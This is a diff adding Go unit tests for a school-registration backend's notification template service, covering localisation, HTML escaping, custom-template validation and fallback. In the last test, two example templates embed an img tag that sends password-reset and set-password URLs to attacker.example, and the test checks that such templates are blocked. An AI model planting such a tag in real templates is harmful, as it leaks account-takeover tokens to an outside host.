@@ -0,0 +1,121 @@
+package services_test
+
+import (
+	"backend-go/internal/dto"
+	"backend-go/internal/logger"
+	"backend-go/internal/models"
+	"backend-go/internal/services"
+	"backend-go/internal/utils"
+	"context"
+	"errors"
+	"strings"
+	"testing"
+	"time"
+
+	"go.uber.org/zap"
+)
+
+func TestNotificationTemplateService_RenderBuiltIn(t *testing.T) {
+	svc := newTemplateService(t, &mockTemplateRepository{})
+	startsAt := time.Date(2025, 3, 10, 1, 0, 0, 0, time.UTC) // 08.00 WIB
+	data := services.TestSessionReminderData{SantriName: "Ahmad <Fauzi>", SessionName: "Tes Tulis", Room: "Ruang 1", StartsAt: startsAt}
+
+	msg, err := svc.Render(context.Background(), services.EventTestSessionReminder, models.LocaleID, data)
+	if err != nil {
+		t.Fatalf("Render failed: %v", err)
+	}
+	if msg.Subject != "Pengingat Jadwal Tes Tulis PSB - Ahmad <Fauzi>" {
+		t.Errorf("unexpected subject %q", msg.Subject)
+	}
+	if !strings.Contains(msg.Text, "Tanggal: 10 Maret 2025") || !strings.Contains(msg.Text, "Waktu: 08.00 WIB") {
+		t.Errorf("expected the local date and time in the text part, got %q", msg.Text)
+	}
+	if !strings.Contains(msg.HTML, "<strong>Ahmad &lt;Fauzi&gt;</strong>") {
+		t.Errorf("expected registrant data to be escaped in the HTML part, got %q", msg.HTML)
+	}
+
+	en, err := svc.Render(context.Background(), services.EventTestSessionReminder, models.LocaleEN, data)
+	if err != nil {
+		t.Fatalf("Render failed: %v", err)
+	}
+	if !strings.Contains(en.Text, "Date: 10 March 2025") || !strings.Contains(en.Text, "Time: 08:00 WIB") {
+		t.Errorf("expected English formatting, got %q", en.Text)
+	}
+
+	// Unknown locales use Indonesian
+	fallback, err := svc.Render(context.Background(), services.EventTestSessionReminder, "", data)
+	if err != nil || fallback.Subject != msg.Subject {
+		t.Errorf("expected the Indonesian template for an empty locale, got %q (%v)", fallback.Subject, err)
+	}
+}
+
+func TestNotificationTemplateService_Customize(t *testing.T) {
+	logger.Log = zap.NewNop()
+	repo := &mockTemplateRepository{}
+	svc := newTemplateService(t, repo)
+	ctx := context.Background()
+
+	_, err := svc.UpdateTemplate(ctx, services.EventPSBRegistered, models.LocaleID, &dto.UpdateNotificationTemplateRequest{
+		Subject: "Pendaftaran {{.SantriName}}", TextBody: "Kode: {{.Nomor}}", HTMLBody: "<p>{{.RegistrationCode}}</p>",
+	}, 1)
+	var appErr *utils.AppError
+	if !errors.As(err, &appErr) || appErr.Code != 400 {
+		t.Fatalf("expected a 400 for a field the event does not have, got %v", err)
+	}
+
+	updated, err := svc.UpdateTemplate(ctx, services.EventPSBRegistered, models.LocaleID, &dto.UpdateNotificationTemplateRequest{
+		Subject: "Pendaftaran {{.SantriName}}", TextBody: "Kode: {{.RegistrationCode}}", HTMLBody: "<p>{{.RegistrationCode}}</p>",
+	}, 1)
+	if err != nil {
+		t.Fatalf("UpdateTemplate failed: %v", err)
+	}
+	if !updated.Customized || *repo.overrides["id/psb.registered"].UpdatedByID != 1 {
+		t.Errorf("expected a customized template, got %+v", updated)
+	}
+
+	msg, err := svc.Render(ctx, services.EventPSBRegistered, models.LocaleID, services.PSBRegisteredData{SantriName: "Budi", RegistrationCode: "PSB-1"})
+	if err != nil || msg.Subject != "Pendaftaran Budi" || msg.Text != "Kode: PSB-1" {
+		t.Errorf("expected the customized template, got %+v (%v)", msg, err)
+	}
+
+	// A customized template that breaks at render time falls back to the built-in one
+	repo.overrides["id/psb.registered"].TextBody = "{{.Missing}}"
+	msg, err = svc.Render(ctx, services.EventPSBRegistered, models.LocaleID, services.PSBRegisteredData{SantriName: "Budi", RegistrationCode: "PSB-1"})
+	if err != nil || !strings.Contains(msg.Text, "Nomor Registrasi: *PSB-1*") {
+		t.Errorf("expected the built-in template, got %+v (%v)", msg, err)
+	}
+
+	preview, err := svc.Preview(ctx, services.EventPSBRegistered, models.LocaleEN, &dto.PreviewNotificationTemplateRequest{Subject: "Hi {{.SantriName}}"})
+	if err != nil {
+		t.Fatalf("Preview failed: %v", err)
+	}
+	if preview.Subject != "Hi Ahmad Fauzi" || !strings.Contains(preview.Text, "PSB-7KQ2M9XA") {
+		t.Errorf("expected the draft subject and current body with sample data, got %+v", preview)
+	}
+}
+
+func TestNotificationTemplateService_ReadOnlyAccountEmails(t *testing.T) {
+	repo := &mockTemplateRepository{}
+	svc := newTemplateService(t, repo)
+	ctx := context.Background()
+
+	_, err := svc.UpdateTemplate(ctx, services.EventPasswordReset, models.LocaleID, &dto.UpdateNotificationTemplateRequest{
+		Subject: "Reset", TextBody: "{{.ResetURL}}", HTMLBody: `<img src="https://attacker.example/?{{.ResetURL}}">`,
+	}, 1)
+	if !isStatus(err, 403) {
+		t.Fatalf("expected the reset template to be read-only, got %v", err)
+	}
+
+	// An override stored before the template became read-only is ignored
+	repo.overrides = map[string]*models.NotificationTemplate{
+		"id/" + services.EventAdminWelcome: {Event: services.EventAdminWelcome, Locale: models.LocaleID, Subject: "Hi", TextBody: "{{.SetPasswordURL}}", HTMLBody: `<img src="https://attacker.example/?{{.SetPasswordURL}}">`},
+	}
+	msg, err := svc.Render(ctx, services.EventAdminWelcome, models.LocaleID, services.AdminWelcomeData{Username: "budi", SetPasswordURL: "https://admin.example.com/reset-password?token=secret", ExpiresInHours: 72})
+	if err != nil || strings.Contains(msg.HTML, "attacker") {
+		t.Errorf("expected the built-in welcome email, got %+v (%v)", msg, err)
+	}
+	current, _ := svc.GetTemplate(ctx, services.EventAdminWelcome, models.LocaleID)
+	if !current.ReadOnly || current.Customized {
+		t.Errorf("expected the welcome template to be shown as read-only and built-in, got %+v", current)
+	}
+}